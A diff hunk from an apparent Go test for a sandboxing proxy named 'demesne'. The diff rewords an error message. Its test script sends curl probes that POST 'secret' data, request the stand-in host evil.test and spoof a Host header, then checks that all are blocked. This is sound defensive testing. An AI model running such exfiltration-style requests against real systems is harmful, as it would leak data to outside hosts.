@@ -45,7 +45,7 @@ curl -sS -X POST -d secret $at/go.test/left/@v/list; curl -sS $at//evil.test/x >
 curl -sS -H 'Host: elsewhere.test' $at/go.test/left/@v/v1.0.0.mod
 for way in '' '--noproxy *'; do curl -sS -m 20 $way https://` + modules + `/go.test/left/@v/v1.0.0.info; echo; done`
 		want := "http://127.0.0.1:8087,direct\n{\"Version\":\"v1.0.0\"}\n200\ngo.sum database tree\n1\n" +
-			"blocked by demesne: \"" + modules + "\": the Go proxy is for GET and HEAD, not for \"POST\"\nmodule go.test/left\n\n\n"
+			"blocked by demesne: \"" + modules + "\": the Go proxy accepts GET and HEAD, not \"POST\"\nmodule go.test/left\n\n\n"
 		if r := n.inside(script, "--go-proxy"); r.stdout != want || n.heard("other POST") || n.heard("elsewhere.test") {
 			n.Errorf("%+v\nwant %q; seen %q", r, want, n.seen)
 		}
